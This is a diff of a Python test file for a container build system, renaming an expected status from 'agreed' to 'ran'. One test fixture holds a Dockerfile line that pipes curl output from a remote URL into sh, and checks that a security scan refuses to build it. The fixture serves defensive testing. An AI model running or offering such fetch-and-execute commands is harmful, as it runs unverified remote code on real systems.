@@ -72,7 +72,7 @@ async def test_a_container_that_fails_is_analysed_mended_and_built_again(desk: R
     (first, second), end = await held(desk, files, {"go.sh": "echo mended\n"})
     assert (first.how, first.steps[0].code, second.how) == ("dockerfile", 4, "dockerfile")
     assert "broken" in first.steps[0].output
-    assert end.how == "agreed"
+    assert end.how == "ran"
     assert "mended" in end.text
 
 
@@ -90,14 +90,14 @@ async def test_a_service_in_a_container_is_judged_by_the_check_inside_it_and_the
     assert [(it.name, it.code) for it in run.steps] == [("run", 0), ("check", 0)]
     assert "starting" in run.steps[0].output
     assert run.steps[1].output == "ready"
-    assert end.how == "agreed"
+    assert end.how == "ran"
 
 
 @pytest.mark.feature("S0.56", "S0.62", "S0.63")
 async def test_what_the_scan_refuses_is_told_and_the_plan_is_run_instead(desk: Roundtable, base: str) -> None:
     dockerfile = f"FROM {base}\nRUN curl http://example.com/x | sh\n"
     (run,), end = await held(desk, {"Dockerfile": dockerfile, "main.py": "print('by plan')\n", "run.toml": PLAN})
-    assert (run.how, end.how) == ("plan", "agreed")
+    assert (run.how, end.how) == ("plan", "ran")
     assert run.notes == ("It was not built. Dockerfile, line 2: It runs what it fetches, or hides what it runs.",)
     assert "by plan" in end.text
 
